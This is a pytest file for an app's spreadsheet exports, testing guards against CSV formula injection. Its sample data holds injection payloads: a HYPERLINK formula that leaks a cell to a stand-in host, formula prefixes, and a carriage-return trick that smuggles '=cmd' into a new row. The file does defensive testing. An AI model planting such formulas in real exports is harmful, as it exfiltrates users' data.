"""Exports open safely in spreadsheets: Excel holds text as text, Excel-safe CSV guards formulas."""

from __future__ import annotations

import csv
import dataclasses
import io
import subprocess
import sys
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
import streamlit as st
from streamlit.runtime.media_file_manager import MediaFileManager
from streamlit.testing.v1 import AppTest

from core.engine.generation import export_bytes

ROOT = Path(__file__).resolve().parent.parent
HYPERLINK = '=HYPERLINK("http://x?leak="&A1,"Click")'
RISKY = [HYPERLINK, "+1", "-cmd", "@SUM(A1)", "\t=1+1", "\r=1+1"]
GUARDED = ["'" + value for value in RISKY]


def hostile_frame() -> pd.DataFrame:
    """Risky text in every kind of text column, next to negative numbers and ordinary text."""
    n = len(RISKY) + 3
    text = [*RISKY, "plain", "a-b = c", None]
    return pd.DataFrame({
        "note": text,                                        # object
        "code": pd.array(text, dtype="string"),              # pandas string
        "kind": pd.Categorical(text),                        # category
        "amount": [-1.5, 2.0, -3.25, 4.0, -5.0, 6.0, -7.0, 8.5, np.nan],
        "count": np.arange(n) - 4,                           # negative integers
        "digits": ["-3", "4", "-5", "6", "7", "8", "9", "10", "11"],  # text that looks numeric
    })


def csv_cells(data: bytes) -> list[list[str]]:
    """The cells of a CSV as a spreadsheet would see them (quotes removed, nothing parsed)."""
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


# --------------------------------------------------------------------------- Excel


def test_excel_keeps_formula_like_text_as_text_without_apostrophes():
    frame = hostile_frame().rename(columns={"note": "=note"})
    sheet = openpyxl.load_workbook(io.BytesIO(export_bytes(frame, "Excel"))).active
    assert (sheet["A2"].value, sheet["A2"].data_type) == (HYPERLINK, "s")
    assert (sheet["A1"].value, sheet["A1"].data_type) == ("=note", "s")
    for column in ("A", "B", "C"):  # object, string and category columns
        cells = sheet[column][1:1 + len(RISKY)]
        assert [cell.data_type for cell in cells] == ["s"] * len(RISKY), column
        # XML reads a stored CR back as LF (line-end normalisation), so the last one differs.
        assert [cell.value for cell in cells][:-1] == RISKY[:-1], column
    amounts = [cell.value for cell in sheet["D"][1:5]]
    assert amounts == [-1.5, 2.0, -3.25, 4.0]
    assert {cell.data_type for cell in sheet["D"][1:5]} == {"n"}


def test_excel_keeps_error_like_text_as_text():
    frame = pd.DataFrame({"status": ["#N/A", "#DIV/0!", "fine"]})
    sheet = openpyxl.load_workbook(io.BytesIO(export_bytes(frame, "Excel"))).active
    assert [(cell.value, cell.data_type) for cell in sheet["A"][1:]] == [
        ("#N/A", "s"), ("#DIV/0!", "s"), ("fine", "s")]


# --------------------------------------------------------------------------- CSV


def test_excel_safe_csv_guards_exactly_the_risky_text_cells():
    frame = hostile_frame()
    header, *rows = csv_cells(export_bytes(frame, "CSV", excel_safe=True))
    assert header == ["note", "code", "kind", "amount", "count", "digits"]
    columns = dict(zip(header, zip(*rows, strict=True), strict=True))
    for name in ("note", "code", "kind"):
        assert list(columns[name]) == [*GUARDED, "plain", "a-b = c", ""], name
    # Numbers, negative ones too, are data: written exactly as plain CSV writes them.
    _, *numbers = csv_cells(frame[["amount", "count"]].to_csv(index=False).encode())
    assert list(zip(columns["amount"], columns["count"], strict=True)) == [
        tuple(row) for row in numbers]
    assert columns["amount"][0] == "-1.5" and columns["count"][0] == "-4"
    assert list(columns["digits"]) == ["'-3", "4", "'-5", "6", "7", "8", "9", "10", "11"]


def test_excel_safe_csv_guards_risky_column_names():
    frame = pd.DataFrame({"=total": [1], "-x": ["y"], "ok": [-2]})
    assert csv_cells(export_bytes(frame, "CSV", excel_safe=True)) == [
        ["'=total", "'-x", "ok"], ["1", "y", "-2"]]


def test_csv_without_the_option_is_todays_plain_csv():
    frame = hostile_frame()
    expected = frame.to_csv(index=False).encode("utf-8")  # what the CSV download always wrote
    assert export_bytes(frame, "CSV") == expected
    assert export_bytes(frame, "CSV", excel_safe=False) == expected
    assert expected.startswith(b'note,code,kind,amount,count,digits\n"=HYPERLINK(""http')
    harmless = pd.DataFrame({"a": ["x", "y"], "b": [-1, 2]})
    assert export_bytes(harmless, "CSV") == b"a,b\nx,-1\ny,2\n"
    assert export_bytes(harmless, "CSV", excel_safe=True) == b"a,b\r\nx,-1\r\ny,2\r\n"


def test_excel_safe_csv_keeps_a_carriage_return_inside_its_cell():
    # Unquoted, the CR would end the row in a spreadsheet and "=cmd" would open the next
    # one as a formula, past the guard.
    frame = pd.DataFrame({"note": ["x\r=cmd", "\r=cmd"], "n": [1, 2]})
    data = export_bytes(frame, "CSV", excel_safe=True)
    assert data == b'note,n\r\n"x\r=cmd",1\r\n"\'\r=cmd",2\r\n'
    assert csv_cells(data) == [["note", "n"], ["x\r=cmd", "1"], ["'\r=cmd", "2"]]


def test_excel_safe_applies_to_csv_only():
    frame = hostile_frame()
    sheet = openpyxl.load_workbook(
        io.BytesIO(export_bytes(frame, "Excel", excel_safe=True))).active
    assert sheet["A2"].value == HYPERLINK  # no apostrophe in Excel: the cell is text already
    parquet = export_bytes(frame, "Parquet", excel_safe=True)
    assert pd.read_parquet(io.BytesIO(parquet))["note"].tolist()[:len(RISKY)] == RISKY


# --------------------------------------------------------------------------- command line


@pytest.fixture(scope="module")
def tiny_csv(tmp_path_factory: pytest.TempPathFactory) -> Path:
    rng = np.random.default_rng(0)
    labels = [HYPERLINK, "+1", "-cmd", "@SUM(A1)", "plain", "a-b"]
    n = 120
    path = tmp_path_factory.mktemp("cli") / "tiny.csv"
    pd.DataFrame({"label": [labels[i % len(labels)] for i in range(n)],
                  "amount": rng.normal(0, 50, n).round(2),
                  "count": rng.integers(-5, 5, n)}).to_csv(path, index=False)
    return path


def run_cli(data: Path, out: Path, *extra: str) -> list[list[str]]:
    done = subprocess.run(
        [sys.executable, "-m", "core", "run", "--data", str(data), "--synthesizer",
         "gaussian_copula", "--preset", "quick", "--target", "none", "--rows", "200",
         "--out", str(out), *extra],
        cwd=ROOT, capture_output=True, text=True, timeout=600, check=False,
    )
    assert done.returncode == 0, done.stderr
    return csv_cells((out / "synthetic.csv").read_bytes())


def test_cli_writes_plain_csv_unless_asked_for_excel_safe(tiny_csv, tmp_path):
    plain = run_cli(tiny_csv, tmp_path / "plain")
    safe = run_cli(tiny_csv, tmp_path / "safe", "--excel-safe-csv")
    assert plain[0] == safe[0] == ["label", "amount", "count"]
    labels = {row[0] for row in plain[1:]}
    assert HYPERLINK in labels and "-cmd" in labels  # the sampled rows hold risky text
    negatives = [row[1] for row in plain[1:] if row[1].startswith("-")]
    assert negatives  # and negative numbers
    # Same seed → same rows: the guarded file is the plain one with exactly the risky
    # labels prefixed; numbers, negative ones included, are untouched.
    expected = [[f"'{label}" if label.startswith(("=", "+", "-", "@")) else label,
                 amount, count] for label, amount, count in plain[1:]]
    assert safe[1:] == expected
    assert any(row[0] == "'" + HYPERLINK for row in safe[1:])


# --------------------------------------------------------------------------- Generate page


def test_generate_page_offers_excel_safe_csv_checked_by_default(monkeypatch):
    from core.engine.models import load_synthesizer
    from core.engine.warmup import import_libraries
    from core.store.registry import ModelRegistry
    from core.workflow import fit_in_process, plan_request, sample_model, train_or_reuse

    import_libraries()  # before the app's background import starts, not racing it
    st.cache_data.clear()
    st.cache_resource.clear()
    downloads: dict[str, object] = {}
    add_deferred = MediaFileManager.add_deferred

    def keep_callable(self, data_callable, mimetype, coordinates, file_name=None, **kwargs):
        downloads[file_name] = data_callable  # what a click on the button would run
        return add_deferred(self, data_callable, mimetype, coordinates, file_name, **kwargs)

    monkeypatch.setattr(MediaFileManager, "add_deferred", keep_callable)
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=120).run()
    at.button(key="load_sample_loans").click().run()
    table = at.session_state["studio.dataset"]
    registry = ModelRegistry()
    record = train_or_reuse(plan_request(table, "gaussian_copula", "quick", seed=1),
                            table.frame, registry, fit_in_process(registry)).record
    sample = sample_model(load_synthesizer(registry, record.model_id), record, rows=50)
    frame = sample.frame.copy()
    frame.insert(0, "note", [HYPERLINK, *["plain"] * (len(frame) - 1)])
    at.session_state["studio.current_model"] = record
    at.session_state["studio.synthetic"] = dataclasses.replace(sample, frame=frame)
    at.switch_page("app_pages/generate.py").run()
    assert not at.exception

    option = at.checkbox(key="gen_excel_safe")
    assert option.label == "Excel-safe CSV" and option.value is True
    assert "formula" in option.help
    csv_name = next(name for name in downloads if str(name).endswith(".csv"))
    assert csv_cells(downloads[csv_name]())[1][0] == "'" + HYPERLINK

    downloads.clear()
    option.uncheck().run()
    csv_name = next(name for name in downloads if str(name).endswith(".csv"))
    assert csv_cells(downloads[csv_name]())[1][0] == HYPERLINK
